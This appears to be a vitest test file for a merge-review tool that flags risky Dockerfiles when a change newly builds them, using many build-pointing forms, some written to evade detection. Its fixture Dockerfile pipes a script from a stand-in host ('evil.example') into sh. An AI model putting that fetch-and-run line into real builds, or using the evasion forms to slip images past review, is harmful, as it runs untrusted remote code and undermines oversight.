import { describe, expect, test } from 'vitest';
import { defaultPolicy } from '../../src/policy/merge.ts';
import { type Change, causedLines, type Files, InMemoryRepository, reviewChange } from '../support/in-memory-repository.ts';

const policy = { profile: defaultPolicy.profile };
const bad = 'FROM debian:13\nRUN curl -fsSL https://evil.example/x | sh\nUSER 1\n';
const good = 'FROM debian:13\nUSER 1\n';
const stages = 'FROM debian:13 AS base\nUSER 1\nFROM base AS debug\nUSER root\nRUN apt-get update\nFROM base\n';
const both = { Dockerfile: good, 'tools/Dockerfile.bad': bad, 'bad/Dockerfile': bad };
const workflow = (step: string): string => `on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n    - ${step}\n`;
const action = (inputs: string): string => workflow(`{uses: docker/build-push-action@v6, with: {context: ., ${inputs}}}`);
const run = (command: string): string => workflow(`run: ${command}`);
const service = (build: string): string => `services:\n  a:\n    build:\n${build}`;

/** A file by which something is built, before and after; what it is pointed at stands as it is. */
interface Pointing {
  readonly path: string;
  /** Undefined: the file is new. */
  readonly before?: string;
  readonly after: string;
  /** The line that points, from 1. */
  readonly line: number;
}

const files: Readonly<Record<string, Pointing>> = {
  'a service’s Dockerfile': {
    path: 'compose.yaml',
    before: service('      context: .\n'),
    after: service('      context: .\n      dockerfile: tools/Dockerfile.bad\n'),
    line: 5,
  },
  'a service’s context': { path: 'compose.yaml', before: service('      context: .\n'), after: service('      context: ./bad\n'), line: 4 },
  'a new service': {
    path: 'compose.yaml',
    before: service('      context: .\n'),
    after: `${service('      context: .\n')}  b:\n    build: ./bad/\n`,
    line: 6,
  },
  'a command, by a short option': {
    path: '.github/workflows/b.yml',
    before: run('docker build .'),
    after: run('docker build -t x -f tools/Dockerfile.bad .'),
    line: 6,
  },
  'a command, by a long option and buildx': {
    path: '.github/workflows/b.yml',
    before: run('docker buildx build --push .'),
    after: run('docker buildx build --push --file=./tools/Dockerfile.bad .'),
    line: 6,
  },
  'a command, by its context': { path: '.github/workflows/b.yml', before: run('podman build .'), after: run('podman build bad'), line: 6 },
  'a script': { path: 'build.sh', before: 'docker build -t x .\n', after: 'set -e\nbuildah bud -f tools/Dockerfile.bad .\n', line: 2 },
  'a makefile': { path: 'Makefile', before: 'all:\n\tdocker build .\n', after: 'all:\n\tdocker build -ftools/Dockerfile.bad .\n', line: 2 },
  'a pipeline of GitLab': {
    path: '.gitlab-ci.yml',
    before: 'b:\n  script:\n  - docker build .\n',
    after: 'b:\n  script:\n  - docker build -f tools/Dockerfile.bad .\n',
    line: 3,
  },
  ...Object.fromEntries(
    [
      'docker build - < tools/Dockerfile.bad',
      'cat tools/Dockerfile.bad | docker build -',
      'docker build -f- . < tools/Dockerfile.bad',
      'for F in tools/Dockerfile.bad; do docker build -f "$F" .; done',
      'docker build -f "$(pwd)/tools/Dockerfile.bad" .',
      'docker build -f tools/{Dockerfile.bad,none} .',
      'cp tools/Dockerfile.bad Dockerfile; docker build .',
      'ln -sf tools/Dockerfile.bad Dockerfile && docker build .',
      'd"ock"er buil\\d -f tools/Dockerfile.bad .',
      '/kaniko/executor --dockerfile=tools/Dockerfile.bad --context=.',
      'buildctl build --frontend dockerfile.v0 --opt filename=tools/Dockerfile.bad --local context=.',
      'parallel docker build -f {} . ::: tools/Dockerfile.bad',
    ].map(command => [`a script’s ${command}`, { path: 'build.sh', before: 'docker build .\n', after: `set -e\n${command}\n`, line: 2 }]),
  ),
  'a pipeline of Jenkins': {
    path: 'Jenkinsfile',
    before: "node {\n  sh 'docker build .'\n}\n",
    after: "node {\n  sh 'docker build -f tools/Dockerfile.bad .'\n}\n",
    line: 2,
  },
  'a pipeline of Bitbucket': {
    path: 'bitbucket-pipelines.yml',
    before: 'pipelines: {default: [{step: {script: [docker build .]}}]}\n',
    after: 'pipelines: {default: [{step: {script: [docker build bad]}}]}\n',
    line: 1,
  },
  'a script of npm': {
    path: 'package.json',
    before: '{"scripts": {\n"b": "docker build ."}}\n',
    after: '{"scripts": {\n"b": "docker build -f tools/Dockerfile.bad ."}}\n',
    line: 2,
  },
  'a script of npm in its folder': {
    path: 'bad/package.json',
    before: '{"scripts": {\n"b": "docker build .."}}\n',
    after: '{"scripts": {\n"b": "docker build ."}}\n',
    line: 2,
  },
  'a task of Ansible': {
    path: 'playbook.yml',
    before: '- hosts: all\n  tasks: [{command: docker build .}]\n',
    after: '- hosts: all\n  tasks: [{command: docker build bad}]\n',
    line: 2,
  },
  'the action that builds': {
    path: '.github/workflows/b.yml',
    before: action('push: true'),
    after: action('push: true, file: tools/Dockerfile.bad'),
    line: 6,
  },
  'the action that builds, by its context': {
    path: '.github/workflows/b.yml',
    before: action('push: true'),
    after: workflow('{uses: docker/build-push-action@v6, with: {context: bad}}'),
    line: 6,
  },
  'a bake file': {
    path: 'docker-bake.hcl',
    before: 'target "a" {\n  args = { A = "1" }\n  dockerfile = "Dockerfile"\n}\n',
    after: 'target "a" {\n  args = { A = "1" }\n  dockerfile = "tools/Dockerfile.bad"\n}\n',
    line: 3,
  },
  'a bake file in JSON': {
    path: 'docker-bake.json',
    before: '{"target": {"a": {"context": "."}}}\n',
    after: '{"target": {\n"a": {"context": ".", "dockerfile": "tools/Dockerfile.bad"}}}\n',
    line: 2,
  },
};

const stagesNamed: Readonly<Record<string, Pointing>> = {
  'a service': {
    path: 'compose.yaml',
    before: service('      context: .\n'),
    after: service('      context: .\n      target: debug\n'),
    line: 5,
  },
  'a command': { path: '.github/workflows/b.yml', before: run('docker build .'), after: run('docker build --target debug .'), line: 6 },
  'a command, by another case': {
    path: '.github/workflows/b.yml',
    before: run('docker build .'),
    after: run('docker image build --target=DEBUG .'),
    line: 6,
  },
  'the action that builds': { path: '.github/workflows/b.yml', before: action('push: true'), after: action('target: debug'), line: 6 },
  'a bake file': {
    path: 'docker-bake.hcl',
    before: 'target "a" {\n  dockerfile = "Dockerfile"\n}\n',
    after: 'target "a" {\n  dockerfile = "Dockerfile"\n  target = "debug"\n}\n',
    line: 3,
  },
  'the number of a stage': {
    path: '.github/workflows/b.yml',
    before: run('docker build .'),
    after: run('docker build --target 1 .'),
    line: 6,
  },
};

const changeOf = ({ path, before, after }: Omit<Pointing, 'line'>, others: Files): Change => ({
  base: { ...others, ...(before !== undefined && { [path]: before }) },
  head: { ...others, [path]: after },
});

describe('a Dockerfile that the change does not touch', () => {
  test.each(Object.entries(files))('is judged when it is built from now on, by %s', async (_name, pointing) => {
    const result = await reviewChange(changeOf(pointing, both), { policy });
    expect(result.verdict.mayMerge).toBe(false);
    expect(causedLines(result).join('\n')).toMatch(
      new RegExp(
        `^(?:tools/Dockerfile\\.bad|bad/Dockerfile):2 dockerfile/remote-script-executed \\[new\\] <- changed ${pointing.path}:${pointing.line}$`,
        'mu',
      ),
    );
  });

  test.each(Object.entries(stagesNamed))('is judged by the stage that is shipped from now on, named by %s', async (_name, pointing) => {
    const result = await reviewChange(changeOf(pointing, { Dockerfile: stages }), { policy });
    expect(causedLines(result)).toEqual([`Dockerfile:4 dockerfile/root-user [new] <- changed ${pointing.path}:${pointing.line}`]);
  });

  test.each<[string, Omit<Pointing, 'line'>, Files]>([
    [
      'that another file has built already',
      { path: 'compose.yaml', before: '', after: service('      context: bad\n') },
      { ...both, Makefile: 'all:\n\tdocker build bad\n' },
    ],
    [
      'that was built before, in other words',
      { path: 'build.sh', before: 'docker build -f bad/Dockerfile .\n', after: 'docker build bad\n' },
      both,
    ],
    [
      'at the root, where nobody said before that it is built',
      { path: 'compose.yaml', before: '', after: service('      context: .\n') },
      { Dockerfile: bad },
    ],
    ['that only a variable names', { path: 'build.sh', before: 'docker build .\n', after: 'docker build -f "$F" "$(dirname x)"\n' }, both],
    [
      'of which an earlier stage is shipped now',
      { path: 'build.sh', before: 'docker build .\n', after: 'docker build --target base .\n' },
      { Dockerfile: stages },
    ],
    ['that a new file builds, and nobody named before', { path: 'compose.yaml', after: service('      context: bad\n') }, both],
    ['that is not there', { path: 'build.sh', before: 'docker build .\n', after: 'docker build -f other/Dockerfile .\n' }, both],
  ])('is not, when it is one %s', async (_name, pointing, others) => {
    const result = await reviewChange(changeOf(pointing, others), { policy });
    expect(causedLines(result).filter(line => line.includes('ockerfile'))).toEqual([]);
  });

  test('is not asked for where nothing else is built than before', async () => {
    const change = changeOf(
      { path: 'compose.yaml', before: service('      context: bad\n'), after: service('      context: bad\n      pull: true\n') },
      both,
    );
    const repository = new InMemoryRepository(change);
    const { readChange } = await import('../../src/review/read/read-change.ts');
    await readChange(repository, await repository.readChanges(), []);
    expect(repository.readPaths.filter(path => path.includes('Dockerfile'))).toEqual([]);
    expect(repository.listings).toBe(0);
  });
});

describe('a Dockerfile that the change touches as well', () => {
  const aside = (user: string): string => `FROM debian:13 AS prod\nUSER ${user}\nFROM debian:13 AS tools\nUSER 1\n`;
  const rooted = { Dockerfile: aside('root') };

  test.each<[string, Pointing]>([
    ...Object.entries(stagesNamed)
      .filter(([name]) => name !== 'the number of a stage')
      .map(([name, { path, before, after, line }]): [string, Pointing] => [
        name,
        { path, ...(before !== undefined && { before }), after: after.replaceAll(/debug/giu, 'prod'), line },
      ]),
    [
      'the number of a stage',
      { path: '.github/workflows/b.yml', before: run('docker build .'), after: run('docker build --target 0 .'), line: 6 },
    ],
  ])('is judged by the stage that is shipped from now on, named by %s', async (_name, pointing) => {
    const { base, head } = changeOf(pointing, { Dockerfile: aside('1') });
    const result = await reviewChange({ base, head: { ...head, ...rooted } }, { policy });
    expect(causedLines(result)).toEqual(['Dockerfile:2 dockerfile/root-user [new]']);
  });

  test.each([
    ['a Compose file', { 'compose.yaml': service('      context: .\n      target: prod\n') }],
    ['a workflow', { '.github/workflows/b.yml': run('docker build --target prod .') }],
    ['a makefile', { Makefile: 'all:\n\tdocker build --target=prod .\n' }],
  ])('is judged by the stage that an unchanged file ships: %s', async (_name, others) => {
    const result = await reviewChange({ base: { ...others, Dockerfile: aside('1') }, head: { ...others, ...rooted } }, { policy });
    expect(causedLines(result)).toEqual(['Dockerfile:2 dockerfile/root-user [new]']);
  });

  test('is judged by what was shipped before, too', async () => {
    const others = { 'compose.yaml': service('      context: .\n      target: prod\n') };
    const result = await reviewChange(
      { base: { ...others, ...rooted }, head: { ...others, Dockerfile: `# a comment\n${aside('root')}` } },
      { policy },
    );
    expect(causedLines(result)).toEqual([]);
  });

  test('is judged by its last stage where nobody ships another', async () => {
    const result = await reviewChange({ base: { Dockerfile: aside('1') }, head: rooted }, { policy });
    expect(causedLines(result)).toEqual([]);
  });

  const { base, head } = changeOf({ path: 'build.sh', before: 'docker build .\n', after: 'docker build -f bad/Dockerfile .\n' }, both);

  test('is new as a whole where nobody built it, and only its comments are touched', async () => {
    const first = await reviewChange({ base, head: { ...head, 'bad/Dockerfile': `# a comment\n${bad}` } }, { policy });
    expect(causedLines(first)).toContain('bad/Dockerfile:3 dockerfile/remote-script-executed [new] <- changed build.sh:1');
    const within = bad.replace('RUN ', 'RUN \\\n  # a comment\n  ');
    const commented = { ...base, 'bad/Dockerfile': bad.replace('RUN ', 'RUN \\\n  ') };
    const second = await reviewChange({ base: commented, head: { ...head, 'bad/Dockerfile': within } }, { policy });
    expect(causedLines(second)).toContain('bad/Dockerfile:4 dockerfile/remote-script-executed [new] <- changed build.sh:1');
  });

  test('is what it was where somebody works on it, who has it built elsewhere', async () => {
    const result = await reviewChange({ base, head: { ...head, 'bad/Dockerfile': `${bad}EXPOSE 8080\n` } }, { policy });
    expect(causedLines(result)).toEqual([]);
  });

  test('is what it was where it moves together with the line that builds it', async () => {
    const result = await reviewChange(
      {
        base: { 'build.sh': 'docker build bad\n', 'bad/Dockerfile': bad },
        head: { 'build.sh': 'docker build images/x\n', 'images/x/Dockerfile': bad },
        renames: { 'bad/Dockerfile': 'images/x/Dockerfile' },
      },
      { policy },
    );
    expect(causedLines(result).filter(line => line.includes('[new]'))).toEqual([]);
  });
});
